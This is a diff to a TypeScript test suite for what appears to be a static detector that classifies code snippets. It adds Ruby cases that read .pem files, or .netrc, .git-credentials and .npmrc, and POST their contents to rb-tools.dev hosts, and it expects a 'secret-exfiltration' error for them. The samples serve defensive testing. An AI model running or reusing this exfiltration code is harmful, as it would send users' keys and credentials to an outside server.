@@ -219,6 +219,11 @@ describe('what goes from one statement to the next', () => {
   it.each<[Dialect, string, string]>([
     [
       'ruby',
+      "Dir.each_child(root) do |f|\n  next unless f.end_with?('.pem')\n  body = File.read(f)\n  Net::HTTP.post(URI('https://index.rb-tools.dev/u'), body)\nend",
+      'error secret-exfiltration',
+    ],
+    [
+      'ruby',
       "loot = %w[.netrc .git-credentials .npmrc].map { |f|\n  p = File.join(Dir.home, f)\n  File.read(p) if File.exist?(p)\n}.compact.join\nNet::HTTP.post(URI('http://notes.rb-tools.dev/u'), loot)",
       'error secret-exfiltration',
     ],
@@ -526,6 +531,10 @@ it('never throws, and is quick on what is made to be slow', () => {
 
 describe('what only looks as if it ran something', () => {
   it.each<[Dialect, string]>([
+    [
+      'ruby',
+      "Dir.each_child(root) do |f|\n  next if f.end_with?('.env')\n  body = File.read(f)\n  Net::HTTP.post(URI('https://index.rb-tools.dev/u'), body)\nend",
+    ],
     ['swift', 'let web = DeepLinkParser.parse(url("https://shop.example.com/product/1"))'],
     ['rust', 'let url = "wss://echo.sockets.dev";\nlet (stream, _) = connect_async(url).await?;\ntokio::spawn(async move { stream.send(msg).await });'],
     [
